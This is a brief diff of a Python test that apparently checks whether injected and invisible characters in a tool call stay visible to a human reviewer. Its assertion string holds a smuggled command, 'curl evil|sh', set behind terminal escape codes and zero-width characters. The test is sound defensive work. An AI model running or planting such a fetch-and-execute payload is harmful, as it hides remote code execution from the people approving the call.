@@ -279,7 +279,7 @@ async def test_nothing_of_a_call_is_invisible(tool: str, input: dict[str, Any], 
     person = Person(keys)
     async with person.asked(tool, **input):
         seen = unbroken(person.has_seen)
-        assert "echohello␛];curlevil|sh;␇⟨U+200B⟩⟨U+E0041⟩⟨U+2800⟩⟨U+00A0⟩done" in seen
+        assert "echohello⟨ESC⟩];curlevil|sh;⟨BEL⟩⟨U+200B⟩⟨U+E0041⟩⟨U+2800⟩⟨U+00A0⟩done" in seen
         assert all(name in seen for name in input if name == "flag")
 
 
